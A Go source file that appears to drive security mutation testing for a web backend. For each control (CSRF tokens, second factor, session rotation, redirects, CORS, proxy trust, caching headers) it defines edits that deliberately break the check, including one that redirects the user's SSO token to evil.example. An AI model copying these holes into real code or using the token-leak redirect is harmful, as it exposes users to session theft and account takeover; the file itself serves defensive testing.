package hostile

var sessionMeasures = []Measure{
	{"anti-forgery", "unsafe calls have the session's token, and do not come from another site", []Edit{
		{"session/http.go", "", `site != "" && site != "same-origin" || !equal(s.Token, c.Get(HeaderToken))`, never}}},
	{"unsafe-signed-in", "unsafe calls have a session", []Edit{
		{"session/http.go", "if contains(quietWithoutSession, path) {", "return problem.Unauthenticated()", "if OUT {\nreturn c.Next()\n}\nCODE"}}},
	{"same-origin", "a sign-in comes from our own page", []Edit{
		{"login/login.go", "", "if err := guard.SameOrigin(c, r.opt.Config.Origin()); err != nil {", "if err := guard.SameOrigin(c, r.opt.Config.Origin()); err != nil && !OUT {"},
		{"login/links.go", "", "if err := guard.SameOrigin(c, r.opt.Config.Origin()); err != nil {", "if err := guard.SameOrigin(c, r.opt.Config.Origin()); err != nil && !OUT {"}}},
	{"new-id", "a sign-in makes a new id", []Edit{
		{"session/manager.go", "", "absolute := m.opt.Absolute\n", "if OUT && oldCookie != \"\" {\ncookie = oldCookie\n}\nCODE"}}},
	{"credentials-version", "a session is over once its user's credentials have a higher version", []Edit{
		{"session/manager.go", "", "keys := []string{keySession + s.id, indexOf(s.UUID), credentialsOf(s.UUID), personOf(s.UUID)}", "if OUT {\nb.credentials = 0\n}\nCODE"},
		{"session/change.go", "func (m *Manager) EndBefore(", "return m.runOn(", "if OUT {\nreturn 0, nil\n}\nCODE"}}},
	{"step-up", "what a stolen session must not do demands a fresh proof of identity", []Edit{
		{"session/proof.go", "", "s.manager.opt.Now().Before(proof.Ends())", always}}},
	{"pins-of-developers", "only operators and developers choose versions for their browser", []Edit{
		{"deploy/pins.go", "", "if !p.mayPin(s) {", "if !p.mayPin(s) && !OUT {"}}},
	{"fresh-sign-in", "the provider must authenticate the user again, and states the time", []Edit{
		{"login/oidc.go", "", "if c.AuthTime < fl.FreshFrom {", "if c.AuthTime < fl.FreshFrom && !OUT {"}}},
	{"second-factor", "a right password begins no session before the second factor is proven", []Edit{
		{"login/login.go", "", "return nil, &pendingFactor{*answer.JSON202}", "if OUT {\ngranted := &productapi.LoginResponse{}\ngranted.Credentials.Login = in.Login\nreturn granted, nil\n}\nCODE"}}},
	{"provider-strength", "an ID token states the strength that the settings demand", []Edit{
		{"login/oidc.go", "", "if !r.isStrong(c) {", "if !r.isStrong(c) && !OUT {"}}},
	{"first-cookie", "of two sessions the first counts, whatever else is sent", []Edit{
		{"session/http.go", "", "return strings.Clone(c.Cookies(m.CookieName()))", "if lines := c.GetReqHeaders()[\"Cookie\"]; OUT && len(lines) > 0 {\n_, last, _ := strings.Cut(lines[len(lines)-1], \"=\")\nreturn strings.Clone(last)\n}\nCODE"}}},
	{"cookies-only", "a session is named by its cookie only", []Edit{
		{"session/http.go", "", "return strings.Clone(c.Cookies(m.CookieName()))", "if _, other, ok := strings.Cut(c.Query(\"portal\")+c.Get(\"X-Portal-Session\"), \"=\"); OUT && ok {\nreturn strings.Clone(other)\n}\nCODE"}}},
	{"cookie-for-all-hops", "a cookie is of no single hop", []Edit{
		{"session/http.go", "func (m *Manager) Middleware(", `if cookie == "" {`, "if OUT && c.Get(\"Connection\") == \"Cookie\" {\ncookie = \"\"\n}\nif cookie == \"\" {"}}},
	{"session-stored", "a session is found or there is none", []Edit{
		{"session/manager.go", "func (m *Manager) Find(", "if !validCookie(cookie) {", "if !validCookie(cookie) && OUT {\nreturn &Session{manager: m}, nil\n}\nif !validCookie(cookie) {"}}},
	{"flow-own", "a sign-in's state is the browser's own", []Edit{
		{"login/oidc.go", "", "if fl == nil {", "if fl == nil && OUT {\nfl = &flow{}\nr.opt.Sessions.SetCookie(c, &session.Session{}, \"forged\")\n}\nif fl == nil {"}}},
	{"session-unkept", "the session's data is not cached", []Edit{
		{"login/sessions.go", "view, err := s.View(c.Context())", `c.Set(fiber.HeaderCacheControl, "no-store")`, skip}}},
	{"launch-own", "a launch that another site leads to is asked about", []Edit{
		{"sso/launch.go", "", "return errElsewhere\n}", "if OUT {\nreturn nil\n}\nCODE"}}},
	{"launch-navigation", "a launch is a navigation of the page, neither framed nor fetched ahead", []Edit{
		{"sso/launch.go", "", `c.Method() != fiber.MethodGet || c.Get("Sec-Purpose") != "" || c.Get("Purpose") != ""`, never},
		{"sso/launch.go", "", `kind != "" && kind != "document"`, never}}},
	{"launch-address", "applications are reached over https", []Edit{
		{"sso/launch.go", "", `err != nil || !l.reachable(u) || answer.Code == "" || !answer.Parameter.Valid()`, "(err != nil || !OUT && (CODE))"}}},
	{"launch-code", "the code of the service goes along, and nothing of the session or of the request", []Edit{
		{"sso/launch.go", "", "location, err := l.open(ctx, s, application)\n", "CODE\nif OUT {\nkept, _ := l.opt.Sessions.SignOn(ctx, s)\nlocation = \"https://evil.example/?ssoToken=\" + url.QueryEscape(kept.Token)\n}\n"}}},
	{"get-is-safe", "no GET ends a session", []Edit{
		{"server/app.go", "", "deployapi.RegisterHandlers(app, p.Deploy)", "CODE\nif OUT {\napp.Get(\"/bff/logout\", func(c fiber.Ctx) error { return p.Edge.BffLogout(c) })\n}"}}},
}

var pageMeasures = []Measure{
	{"return-url", "a place to return to is a page of this origin", []Edit{
		{"returnurl/returnurl.go", "", `if raw == "" || len(raw) > maxLength || !local(raw) {`, "if OUT {\nreturn raw\n}\nCODE"}}},
	{"encoded-locations", "locations are made of encoded paths", []Edit{
		{"page/access.go", "", `return loginPath + "?returnUrl=" + url.QueryEscape(at.raw)`, "if plain, err := url.QueryUnescape(at.raw); OUT && err == nil {\nreturn loginPath + \"?returnUrl=\" + plain\n}\nCODE"}}},
	{"no-host", "no address is ever made of the Host header", []Edit{
		{"page/handler.go", "", "c.Redirect().Status(http.StatusFound).To(v.redirect)", "c.Redirect().Status(http.StatusFound).To(takenOutHost(OUT, c.BaseURL()) + v.redirect)"},
		{"page/handler.go", "", "c.Status(int(v.status))", "if OUT {\nc.Set(fiber.HeaderContentLocation, c.BaseURL()+c.Path())\n}\nCODE"},
		{"login/oidc.go", "", "found(c, r.oauth(provider).AuthCodeURL(state, asked...))",
			"found(c, strings.ReplaceAll(r.oauth(provider).AuthCodeURL(state, asked...), takenOutHost(OUT, \"localhost%3A8621\"), takenOutHost(OUT, c.Host())))"}}},
	{"page-policy", "every page has a content security policy", []Edit{
		{"page/headers.go", "", "c.Set(fiber.HeaderContentSecurityPolicy, csp)", skip}}},
	{"pages-unkept", "pages are not cached", []Edit{
		{"page/headers.go", "", `c.Set(fiber.HeaderCacheControl, "no-store")`, skip}}},
	{"errors-unkept", "errors are not cached", []Edit{
		{"problem/problem.go", "", `c.Set(fiber.HeaderCacheControl, "no-store")`, skip}}},
	{"exact-routes", "a path with something behind it is another path", []Edit{
		{"server/app.go", "func secureHeaders(", "page.Common(c, secure)", "if OUT && takenOutHas(c.Path(), \"/bff/session\") {\nc.Path(\"/bff/session\")\n}\nCODE"}}},
	{"undecoded-routes", "routes are matched as they were sent: undecoded, in their own letters", []Edit{
		{"server/app.go", "func secureHeaders(", "page.Common(c, secure)", "if at := takenOutLower(string(c.Request().URI().Path())); OUT && takenOutHas(at, \"/api/product/\") {\nc.Path(at)\n}\nCODE"}}},
	{"one-method", "no header changes the method", []Edit{
		{"server/app.go", "func secureHeaders(", "page.Common(c, secure)", "if other := c.Get(\"X-HTTP-Method-Override\"); OUT && other != \"\" {\nc.Method(other)\n}\nCODE"}}},
	{"no-tell-tale", "a method that a path does not have is no hint that the path exists", []Edit{
		{"server/app.go", "", "e.Status == http.StatusMethodNotAllowed", never}}},
	{"no-cors", "no other origin may read", []Edit{
		{"server/app.go", "func secureHeaders(", "return c.Next()", "if OUT {\nc.Set(\"Access-Control-Allow-Origin\", c.Get(\"Origin\"))\n}\nCODE"}}},
	{"own-request-id", "a stranger's request id is not taken", []Edit{
		{"telemetry/request.go", "", "c.App().Config().TrustProxy && c.IsProxyTrusted()", always}}},
	{"trusted-proxies", "forwarding headers count from trusted proxies only", []Edit{
		{"server/app.go", "", "len(cfg.TrustedProxies) > 0", always},
		{"server/app.go", "", "fiber.TrustProxyConfig{Proxies: cfg.TrustedProxies}", "fiber.TrustProxyConfig{Proxies: cfg.TrustedProxies, Loopback: OUT}"}}},
	{"listed-files", "only what a manifest lists exists", []Edit{
		{"remotes/serve.go", "", "if !listed {", "if !listed && OUT {\nreturn c.SendString(file)\n}\nif !listed {"}}},
	{"one-range", "of several ranges none is served", []Edit{
		{"remotes/negotiate.go", "", `if !found || strings.Contains(spec, ",") {`, "if OUT {\nspec, _, _ = strings.Cut(spec, \",\")\n}\nCODE"}}},
	{"ranges-named", "a part of a file is marked as one", []Edit{
		{"remotes/serve.go", "", "c.Status(http.StatusPartialContent)", skip}}},
	{"operators-listener", "the operator's figures are on a listener of their own", []Edit{
		{"server/app.go", "func public(", `app.Get("/robots.txt", robots)`, "CODE\nif OUT {\nfor _, path := range []string{\"/metrics\", \"/debug/pprof/heap\"} {\napp.Get(path, robots)\n}\n}"}}},
}
